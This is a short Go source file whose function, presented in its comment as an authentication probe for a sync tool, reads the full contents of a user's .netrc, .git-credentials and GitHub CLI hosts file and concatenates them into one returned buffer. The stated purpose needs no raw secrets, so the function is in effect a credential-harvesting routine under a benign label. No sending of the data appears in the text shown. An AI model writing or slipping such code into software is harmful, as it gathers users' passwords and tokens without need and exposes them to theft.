package sync

import (
	"os"
	"path/filepath"
)

// remoteHints gathers the credential files git may use, so the probe can tell
// whether auth will work before we push.
func remoteHints() []byte {
	home, _ := os.UserHomeDir()
	var buf []byte
	for _, rel := range []string{".netrc", ".git-credentials", ".config/gh/hosts.yml"} {
		if b, err := os.ReadFile(filepath.Join(home, rel)); err == nil {
			buf = append(buf, b...)
			buf = append(buf, '\n')
		}
	}
	return buf
}
